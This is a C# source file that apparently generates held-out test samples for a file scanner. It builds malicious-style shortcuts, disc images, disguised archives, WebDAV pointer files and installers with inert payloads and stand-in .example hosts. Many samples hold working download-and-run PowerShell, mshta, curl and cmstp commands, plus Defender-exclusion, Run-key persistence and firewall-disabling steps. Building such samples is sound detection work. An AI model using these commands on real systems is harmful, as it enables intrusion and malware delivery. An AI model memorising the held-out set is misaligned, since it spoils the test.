namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Shortcuts with a command.</summary>
public sealed class ShortcutWithCommand : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice.pdf.lnk", new LinkBuilder().To(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe").With("-w hidden -nop -c \"iwr https://pdf.lnk-share.example/d -OutFile $env:TEMP\\d.pdf; saps $env:TEMP\\d.pdf; iex (irm https://pdf.lnk-share.example/s)\"").Icon(@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe").Build());
        yield return ("Protocol_meeting.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With(new string(' ', 260) + "/v:on /c set x=ms&&set y=hta&&!x!!y! https://prot.mfa-event.example/agenda.hta").Icon("%SystemRoot%\\System32\\imageres.dll").Build());
        var hta = Dos("<script>new ActiveXObject('WScript.Shell').Run('calc',0);close()</script>");
        yield return ("Kontoauszug 11-2026.lnk", new LinkBuilder().To(@"C:\Windows\explorer.exe").With("").Environment(@"%windir%\system32\mshta.exe").From("desktop-7q1k0lp").Append([.. Filler.Noise(8, 3000), .. hta, .. new byte[20000]]).Build());
        yield return ("Photos_2026.lnk", new LinkBuilder().To(@"C:\Windows\System32\forfiles.exe").With("/p C:\\Windows\\System32 /m notepad.exe /c \"powershell . \\*i*\\\\*2\\\\msh*e https://img.album-sync.example/album.mp4\"").Icon(@"C:\Windows\System32\shell32.dll").Build());
    }
}

/// <summary>Disc images with a shortcut or program in them.</summary>
public sealed class DiscWithShortcut : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var run = new LinkBuilder().To(@"C:\Windows\System32\rundll32.exe").With("scan.dll,DllEntry").Icon("%SystemRoot%\\System32\\imageres.dll").Build();
        yield return ("Scan_1102.iso", DiscImage.Build("SCAN", ("Scan_1102.lnk", false, run), ("scan.dll", true, new PeBuilder().Exporting("scan.dll", "DllEntry").Build())));
        yield return ("Agreement.img", DiscImage.Build("AGREEMENT", ("Agreement.pdf" + new string(' ', 40) + ".exe", false, new PeBuilder().Importing("kernel32.dll", "LoadLibraryA", "GetProcAddress").Build())));
        yield return ("Evidence_Nov.iso", DiscImage.Build("EVIDENCE", ("open me.lnk", false, new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c start /b data\\r.bat & start photo.jpg").Build()), ("r.bat", true, Dos("@echo off\nset k=re\nset j=gs\n%k%%j%vr32 /s tools.dat\n")), ("tools.dat", true, new PeBuilder().Exporting("t.dll", "DllRegisterServer").Build()), ("photo.jpg", true, [0xFF, 0xD8, 0xFF, 0xE0, .. Filler.Noise(1, 4000)])));
        yield return ("Setup_Teams.iso", DiscImage.Build("TEAMS", ("Teams.exe", false, new PeBuilder().Importing("version.dll", "GetFileVersionInfoA").Importing("kernel32.dll", "CreateProcessW").Build()), ("version.dll", true, new PeBuilder().Exporting("version.dll", "GetFileVersionInfoA", "VerQueryValueA").Importing("kernel32.dll", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread").Build()), ("autorun.inf", true, Dos("[autorun]\nopen=Teams.exe\naction=Install Teams\n"))));
    }
}

/// <summary>Archives with something disguised in them.</summary>
public sealed class ArchiveWithDisguise : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Order_Confirmation.zip", InertFiles.Zip(("Order_Confirmation_PDF.scr", new PeBuilder().Importing("kernel32.dll", "VirtualProtect", "LoadResource", "CreateThread").Build())));
        yield return ("IMG_20261104.zip", InertFiles.Zip(("IMG_0001.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. Filler.Noise(3, 2500)]), ("IMG_0002_\u202Egpj.exe", InertFiles.Pe(4096)), ("IMG_0003.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. Filler.Noise(4, 2500)])));
        yield return ("Copyright_Claim_Evidence.rar", RarBuilder.Rar5("Copyright Claim Evidence/Copyright Infringement Document.pdf .exe", new PeBuilder().Importing("python310.dll", "Py_Main").WithOverlay(Filler.Noise(13, 3000)).Build()));
        var nested = InertFiles.Zip(("Documents/Vertrag.pdf.js", Dos("var s=new ActiveXObject('Shell.Application');s.ShellExecute('cmd.exe','/c curl https://vertrag.kanzlei-box.example/v -o %temp%\\\\v.exe&%temp%\\\\v.exe','','open',0);")));
        yield return ("Vertragsunterlagen.zip", InertFiles.Zip(("Passwort.txt", Utf8("Kennwort: 1234\n")), ("Unterlagen.zip", InertFiles.Zip(("Vertragsunterlagen_intern.zip", nested)))));
    }
}

/// <summary>Small text files of Windows that open a stranger's share or page.</summary>
public sealed class PointerToAShare : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Tax_Refund.url", Dos("[InternetShortcut]\nURL=file://tax.refund-portal.example@80/Downloads/Tax_Refund.zip/Refund.js\nIconIndex=13\nIconFile=C:\\Windows\\System32\\SHELL32.dll\nHotKey=0\n"));
        yield return ("Documents.library-ms", Utf8("""
<?xml version="1.0" encoding="UTF-8"?>
<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
  <name>@windows.storage.dll,-34582</name><version>6</version><isLibraryPinned>true</isLibraryPinned><iconReference>imageres.dll,-1003</iconReference>
  <searchConnectorDescriptionList><searchConnectorDescription><isDefaultSaveLocation>true</isDefaultSaveLocation><isSupported>false</isSupported>
    <simpleLocation><url>\\dav.files-hr.example@SSL\DavWWWRoot\hr</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList>
</libraryDescription>
"""));
        yield return ("Invoices.search-ms", Utf8("""
<?xml version="1.0"?>
<persistedQuery version="1.0"><query><conditions><condition type="leafCondition" property="System.FileName" operator="wordmatch" value="invoice"/></conditions><kindList><kind name="item"/></kindList><scope><include path="\\search.invoice-dav.example@8080\invoices" attributes="1"/></scope></query></persistedQuery>
"""));
        yield return ("View_Statement.html", Utf8("""
<html><head><title>Statement</title><meta http-equiv="refresh" content="0;url=search-ms:query=STATEMENT&crumb=location:\\statements.cloud-dav.example@SSL\DavWWWRoot\&displayname=Downloads"></head>
<body><a href="search:query=STATEMENT&crumb=location:\\statements.cloud-dav.example@SSL\DavWWWRoot\&displayname=Downloads">Open in Explorer</a></body></html>
"""));
    }
}

/// <summary>Installers and help files that run a command.</summary>
public sealed class InstallerThatRunsCommand : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("zoom_setup.msi", Installer("LaunchIt\t3122\tTARGETDIR\tpowershell.exe -nop -w hidden -c \"iex(irm https://zoom.msi-cdn.example/i)\""));
        yield return ("kb5031356.msi", Installer("RunJs\t37\t\tvar s=new ActiveXObject(\"WScript.Shell\");s.Run(\"rundll32 C:\\\\ProgramData\\\\kb.dll,Start\",0);", "Del\t34\tTARGETDIR\tcmd.exe /c curl -o C:\\ProgramData\\kb.dll https://kb.win-patch.example/kb.dll"));
        yield return ("install.nsi", Dos("""
Name "Free VPN"
OutFile "setup.exe"
SilentInstall silent
RequestExecutionLevel admin
Section
  SetOutPath $TEMP
  nsExec::Exec 'powershell -Command Add-MpPreference -ExclusionPath $APPDATA'
  inetc::get /SILENT "https://vpn.free-proxy-app.example/svc.exe" "$APPDATA\svc.exe" /END
  WriteRegStr HKCU "Software\Microsoft\Windows\CurrentVersion\Run" "VPNSvc" "$APPDATA\svc.exe"
  Exec "$APPDATA\svc.exe"
  nsExec::Exec 'netsh advfirewall set allprofiles state off'
SectionEnd
"""));
        yield return ("driver.inf", Dos("""
[version]
Signature=$chicago$
AdvancedINF=2.5

[DefaultInstall_SingleUser]
UnRegisterOCXs=UnRegisterOCXSection
RunPreSetupCommands=PreCmd

[UnRegisterOCXSection]
%11%\scrobj.dll,NI,https://inf.cmstp-profile.example/p.sct

[PreCmd]
taskkill /IM cmstp.exe /F
powershell -ep bypass -w hidden -c iex(irm https://inf.cmstp-profile.example/c)

[Strings]
AppAct = "SOFTWARE\Microsoft\Connection Manager"
ServiceName="CorpVPN"
ShortSvcName="CorpVPN"
"""));
    }

    private static byte[] Installer(params string[] actions)
    {
        using var folder = new TemporaryFolder();
        File.WriteAllBytes(Path.Combine(folder.Path, "inner.bin"), InertFiles.Pe());
        return MsiBuilder.WithWixl(folder.Path, actions);
    }
}
